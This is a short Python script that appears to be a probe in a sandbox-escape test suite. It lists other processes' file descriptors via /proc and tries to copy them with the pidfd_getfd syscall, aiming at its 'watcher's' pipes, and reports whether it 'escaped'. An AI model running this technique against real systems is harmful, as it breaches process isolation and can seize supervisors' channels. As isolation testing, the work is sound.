"""Wants the pipes of its watcher: lists the descriptors of other processes and takes copies of them."""

import contextlib
import ctypes
import os
from collections.abc import Callable

PIDFD_GETFD = 438


def attack(ready: Callable[[dict[str, object]], object]) -> dict[str, object]:
    libc, seen, taken = ctypes.CDLL(None), [], []
    others = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
    ready({})
    for pid in others:
        with contextlib.suppress(OSError):
            seen += [f"{pid}: " + os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")]
        with contextlib.suppress(OSError):
            process = os.pidfd_open(pid)
            for number in range(64):
                copy = libc.syscall(PIDFD_GETFD, process, number, 0)
                if copy >= 0:
                    os.close(copy)
                    taken.append(f"{pid}: {number}")
            os.close(process)
    return {"escaped": bool(seen or taken), "detail": {"seen": seen[:100], "taken": taken[:100]}}


if __name__ == "__main__":
    __import__("_common").command(attack)
